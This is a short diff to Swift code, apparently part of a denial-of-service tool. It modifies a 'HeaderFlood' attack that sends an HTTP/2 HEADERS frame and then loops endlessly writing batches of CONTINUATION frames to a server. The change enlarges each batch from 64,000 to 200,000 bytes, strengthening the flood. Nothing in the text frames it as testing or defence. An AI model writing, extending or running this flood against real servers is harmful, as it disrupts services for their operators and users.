@@ -68,7 +68,7 @@ struct HeaderFlood: Attack {
         first.writeFrame(.headers, stream: 1, block.bytes)
         try await connection.write(first)
         var batch = ByteBuffer()
-        while batch.readableBytes < 64_000 { batch.writeFrame(.continuation, stream: 1, payload) }
+        while batch.readableBytes < 200_000 { batch.writeFrame(.continuation, stream: 1, payload) }
         while !Task.isCancelled, isEndless || sent.value < Self.totalBytes {
             try await connection.write(batch)
             sent.add(batch.readableBytes)
